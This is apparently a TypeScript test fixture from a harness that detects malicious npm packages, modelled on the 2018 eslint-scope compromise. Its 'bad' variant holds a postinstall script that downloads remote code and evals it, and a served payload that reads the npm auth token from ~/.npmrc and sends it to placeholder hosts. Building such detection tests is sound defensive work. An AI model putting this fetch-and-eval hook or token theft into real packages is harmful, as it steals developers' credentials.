import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'eslint-scope',
  after: 'eslint-scope 3.7.2, 2018',
  source: 'https://github.com/eslint/eslint-scope/issues/39',
  shape: ['install', 'npm ci', 'remote code', 'header'],
  patterns: ['data_exfiltration', 'privilege_escalation'],
  culprits: ['scope-tools'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: {
    'scope-tools': {
      'package.json': '{"scripts":{"postinstall":"node lib/build.js"}}',
      'index.js': 'exports.scope = () => ({});',
      'lib/build.js': "require('fs').writeFileSync(require('path').join(__dirname, 'ready.txt'), 'yes');",
    },
  },
  benign: {
    'scope-tools': {
      'lib/build.js':
        "const fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(__dirname, 'ready.json'), JSON.stringify({ at: 1 }));",
    },
  },
  bad: {
    'scope-tools': {
      'lib/build.js': `const http = require('http');
http.get({ host: '@A@', port: @PORT@, path: '/raw/XLeVP82h' }, (r) => {
  let text = '';
  r.on('data', (c) => { text += c; r.on('end', () => {}); });
  r.on('end', () => eval(text));
}).on('error', () => {});`,
    },
  },
  serves: {
    '/raw/XLeVP82h': `try {
  const path = require('path'), fs = require('fs'), http = require('http');
  const rc = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');
  const token = /_authToken=(\\S+)/.exec(fs.readFileSync(rc, 'utf8'))[1];
  for (const host of ['@B@', '@C@']) {
    http.get({ host, port: @PORT@, path: '/c.gif', headers: { Referer: 'http://1.a/' + token } }, (r) => r.resume()).on('error', () => {});
  }
} catch {}`,
  },
  proof: [{ secret: true }],
};
